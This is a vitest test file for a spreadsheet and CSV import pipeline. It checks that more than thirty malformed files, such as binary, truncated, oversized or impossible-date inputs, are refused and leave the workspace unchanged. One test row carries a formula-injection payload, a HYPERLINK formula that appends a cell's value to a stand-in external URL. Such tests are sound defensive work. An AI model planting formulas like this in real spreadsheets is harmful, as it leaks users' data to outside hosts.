// Every malformed file is refused with a reason the dialog words, and the workspace stays as it was.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { planFile, plannedWorkspace, utf8 } from '../model/importTesting';
import { xlsxBytes } from './xlsxWriter';
import type { ImportError } from './pipeline';
import { MAX_FILE_BYTES } from './table';

const plan = new Uint8Array(readFileSync(new URL('./fixtures/plan-libreoffice.xlsx', import.meta.url)));
const csvPlan = new Uint8Array(readFileSync(new URL('./fixtures/excel-utf8-bom.csv', import.meta.url)));
const header = 'Datum;Uhrzeit;Kanal;Thema\n';
const bytes = (...values: number[]) => new Uint8Array(values);
const repeat = (line: string, times: number) => Array.from({ length: times }, () => line).join('');
const xlsxOf = (rows: string[][]) =>
  xlsxBytes(rows.map((row) => row.map((value) => ({ type: 'text' as const, value }))));

const MALFORMED: [string, ImportError, () => Uint8Array | Promise<Uint8Array>][] = [
  ['an empty file', 'empty', () => bytes()],
  ['only a BOM', 'empty', () => bytes(0xef, 0xbb, 0xbf)],
  ['only blank lines', 'empty', () => utf8('\r\n\r\n\n  \n')],
  ['only separators', 'empty', () => utf8(';;;\n;;;\n')],
  ['only a header', 'noRows', () => utf8(header)],
  ['a title line and nothing else', 'noRows', () => utf8('Redaktionsplan 2026\n')],
  ['a PNG picture', 'binary', () => bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13)],
  ['a PDF with binary streams', 'binary', () => utf8('%PDF-1.7\n\u0000\u0001stream')],
  [
    'UTF-16 text (NUL bytes)',
    'binary',
    () => new Uint8Array(new Uint16Array([...header].map((c) => c.charCodeAt(0))).buffer),
  ],
  [
    'an old Excel 97 file (.xls)',
    'oldExcel',
    () => bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0),
  ],
  ['an XLSX cut off after half', 'damaged', () => plan.subarray(0, Math.floor(plan.length / 2))],
  ['an XLSX cut off after its first bytes', 'damaged', () => plan.subarray(0, 40)],
  ['a ZIP that is no spreadsheet', 'damaged', () => bytes(0x50, 0x4b, 0x03, 0x04, 1, 2, 3, 4, 5, 6, 7, 8)],
  [
    'an XLSX with bytes changed in the middle',
    'damaged',
    () => {
      const copy = plan.slice();
      for (let i = 600; i < 1400; i++) copy[i] = 0x41;
      return copy;
    },
  ],
  ['a file of 50 MB', 'tooLarge', () => new Uint8Array(50 * 1024 * 1024).fill(0x41)],
  ['a file one byte over the limit', 'tooLarge', () => new Uint8Array(MAX_FILE_BYTES + 1).fill(0x3b)],
  [
    'a sheet of 10^5 rows',
    'tooManyRows',
    () => utf8(header + repeat('01.03.2027;9:00;Instagram;Post\n', 100_000)),
  ],
  [
    'a sheet of 10,002 rows',
    'tooManyRows',
    () => utf8(header + repeat('01.03.2027;9:00;Instagram;Post\n', 10_002)),
  ],
  ['a row of 300 columns', 'tooManyColumns', () => utf8(`${header}${repeat('x;', 300)}\n`)],
  [
    'no column names the posts',
    'noTitleColumn',
    () => utf8('Datum;Uhrzeit;Kanal\n01.03.2027;9:00;Instagram\n'),
  ],
  ['headers nobody knows', 'noTitleColumn', () => utf8('A;B;C\n1;2;3\n4;5;6\n')],
  [
    'a day that does not exist (30.02.)',
    'nothingToImport',
    () => utf8(`${header}30.02.2027;9:00;Instagram;Post\n`),
  ],
  ['the 31st of April', 'nothingToImport', () => utf8(`${header}31.04.2027;9:00;Instagram;Post\n`)],
  ['29.02. in a year without it', 'nothingToImport', () => utf8(`${header}29.02.2027;9:00;Instagram;Post\n`)],
  ['month 13', 'nothingToImport', () => utf8(`${header}2027-13-01;9:00;Instagram;Post\n`)],
  [
    'dates that are words',
    'nothingToImport',
    () => utf8(`${header}nächste Woche;9:00;Instagram;Post\nbald;;Instagram;Post 2\n`),
  ],
  [
    'rows without a title',
    'nothingToImport',
    () => utf8(`${header}01.03.2027;9:00;Instagram;\n02.03.2027;9:00;Instagram;  \n`),
  ],
  [
    'formulas as titles',
    'nothingToImport',
    () => utf8(`${header}01.03.2027;9:00;Instagram;=HYPERLINK("http://x.example/?"&A1;"klick")\n`),
  ],
  ['formulas everywhere', 'nothingToImport', () => utf8(`${header}=1+1;=NOW();=A1;=SUM(A1:A9)\n`)],
  [
    'Windows-1252 text of bad dates',
    'nothingToImport',
    () =>
      new Uint8Array(
        [...utf8(header)].concat([
          0x33, 0x32, 0x2e, 0x31, 0x32, 0x2e, 0x32, 0x30, 0x32, 0x37, 0x3b, 0x3b, 0x3b, 0xc4, 0x0a,
        ]),
      ),
  ],
  ['an XLSX with only a header', 'noRows', () => xlsxOf([['Datum', 'Kanal', 'Thema']])],
  [
    'an XLSX without a title column',
    'noTitleColumn',
    () =>
      xlsxOf([
        ['Datum', 'Kanal'],
        ['01.03.2027', 'Instagram'],
      ]),
  ],
  [
    'an XLSX of impossible dates',
    'nothingToImport',
    () =>
      xlsxOf([
        ['Datum', 'Kanal', 'Thema'],
        ['30.02.2027', 'Instagram', 'A'],
      ]),
  ],
  ['a CSV cut off after its header', 'nothingToImport', () => csvPlan.subarray(0, 60)],
];

describe('malformed files', () => {
  it(`are at least 30 (${MALFORMED.length})`, () => expect(MALFORMED.length).toBeGreaterThanOrEqual(30));

  it.each(MALFORMED)('%s is refused (%s) and the workspace stays as it was', async (_name, error, make) => {
    const doc = plannedWorkspace();
    const before = Y.encodeStateAsUpdate(doc);
    const result = await planFile(doc, await make());
    expect(result).toEqual({ ok: false, error });
    expect(Y.encodeStateAsUpdate(doc)).toEqual(before);
  });
});
